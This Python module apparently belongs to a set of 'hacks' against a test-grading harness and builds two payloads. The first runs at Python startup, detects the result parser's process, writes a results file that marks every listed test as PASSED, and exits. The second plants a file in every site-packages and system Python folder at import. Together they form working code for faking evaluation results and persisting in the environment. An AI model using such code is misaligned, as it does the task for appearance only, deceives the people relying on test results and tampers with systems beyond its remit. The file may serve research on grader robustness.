"""What the hacks share that own the parser's process."""

from hacks.base import Play, Target
from hacks.payloads import at_import, fill

_OWN = """
import sys
if any("parser" in word for word in getattr(sys, "orig_argv", [])):
    import os
    tests = ", ".join('{"name": "%s", "status": "PASSED"}' % name for name in @F2P@ + @P2P@)
    with open(sys.orig_argv[-1], "w") as result:
        result.write('{"tests": [' + tests + ']}')
    os._exit(0)
"""

_LEAVE = """
def _leave():
    import site, sys
    for folder in {*site.getsitepackages(), "/usr/lib/python3/dist-packages", "/etc/python3.11", "/usr/lib/python3.11"}:
        try:
            with open(f"{folder}/@NAME@", "w") as file:
                file.write(@TEXT@)
        except OSError:
            pass
_leave()
"""


def own(target: Target) -> str:
    """Python for the start of every process: in that of the parser it writes the result."""
    return fill(_OWN, target)


def leave(target: Target, name: str, text: str) -> Play:
    """At import write a file into every folder of installed packages."""
    return at_import(target, _LEAVE.replace("@NAME@", name).replace("@TEXT@", repr(text)))
